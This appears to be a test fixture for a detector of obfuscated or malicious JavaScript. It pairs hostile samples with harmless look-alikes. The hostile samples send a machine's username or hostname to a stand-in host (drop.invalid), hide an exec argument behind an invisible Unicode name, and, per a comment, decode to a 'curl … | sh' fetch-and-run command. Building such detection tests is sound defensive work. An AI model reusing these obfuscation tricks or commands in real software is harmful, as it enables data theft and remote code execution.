import { readFileSync } from 'node:fs'
import type { Technique } from './techniques.ts'

const main = (text: string) => ({ files: { 'index.js': text } })

/** What common obfuscators write, with what compilers, minifiers and people write that looks like it. */
export const obfuscators: readonly Technique[] = [
  {
    name: 'javascript-obfuscator with short names and a list that is not turned',
    rule: 'code/obfuscated',
    hostile: main(
      `function a(){const f=['https','stringify','hostname','userInfo','drop.invalid'];a=function(){return f;};return a();}function b(c,d){c=c-0x105;const e=a();let f=e[c];return f;}const os=require('os'),x=require(b(0x105));x.get('https://'+b(0x109)+'/'+os[b(0x107)]());`,
    ),
    honest: main(
      `function list(){const found=['a','b','c'];exports.list=function(){return found};return found}
      let ready=function(){ready=function(){return true};return false};exports.ready=ready`,
    ),
  },
  {
    name: 'statements in an order that is looked up',
    rule: 'code/obfuscated',
    hostile: main(
      `var o='3|0|2|1'.split('|'),i=0;while(!![]){switch(o[i++]){case'0':var h=require('os').hostname();continue;case'1':r.end(h);continue;case'2':var r=x.request({host:'drop.invalid'});continue;case'3':var x=require('https');continue;}break;}`,
    ),
    honest: main(
      `const steps='1|2|3'.split('|');exports.run=(code)=>{let pc=0;for(;;){switch(code[pc]){case 0:return;case 1:pc++;break;default:pc+=2}}};exports.steps=steps`,
    ),
  },
  {
    name: 'names that cannot be seen',
    rule: 'code/obfuscated',
    hostile: main(
      `const { exec } = require('child_process'); exports.run = (x, { cmd, \u3164 }) => exec([cmd, \u3164].join(' '))`,
    ),
    honest: main(`exports.blank = '\u3164'; exports.gruß = 'hallo'; exports.名 = 1`),
  },
  {
    name: 'the preset `high` of javascript-obfuscator 5.8.0, whose strings are worked out all the same',
    rule: 'code/runs-downloads',
    // Made of `require('child_process').exec('curl http://drop.invalid/a | sh')`.
    hostile: main(readFileSync(new URL('obfuscator-5.8.0-high.txt', import.meta.url), 'utf8')),
    honest: main(
      `function Reader(bytes){this.bytes=bytes;this.at=0}
      Reader.prototype.text=function(){var out='';while(this.at<this.bytes.length)out+=String.fromCharCode(this.bytes[this.at++]);return out}
      exports.magic=new Reader([80,75,3,4]).text();exports.isPlain=new RegExp('\\\\w+ *').test(String(function(){}))`,
    ),
  },
]
